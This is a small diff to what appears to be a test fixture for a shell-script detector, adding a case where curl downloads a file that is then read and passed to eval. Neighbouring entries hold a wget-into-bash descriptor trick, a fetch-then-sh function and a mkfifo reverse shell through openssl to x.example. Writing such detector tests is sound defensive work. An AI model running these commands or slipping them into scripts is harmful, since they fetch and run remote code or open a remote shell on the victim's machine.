@@ -27,6 +27,7 @@ FOLLOWED = {
         f'get() {{\n  echo ok\n  curl -s "$1" -o "$2"\n}}\nget {URL} /tmp/a\nsh /tmp/a\n',
         PIPE,
     ),
+    "a redirection alone": ("a.sh", f'curl -so /tmp/x {URL}\nX=$(</tmp/x)\neval "$X"\n', PIPE),
     "a descriptor": ("a.sh", f"exec 3< <(wget -qO- {URL})\nbash <&3\n", PIPE),
     "a pipe with a name": ("a.sh", "mkfifo p\nsh -i < p | openssl s_client -connect x.example:443 > p\n", PIPE),
     "each file of a folder": (
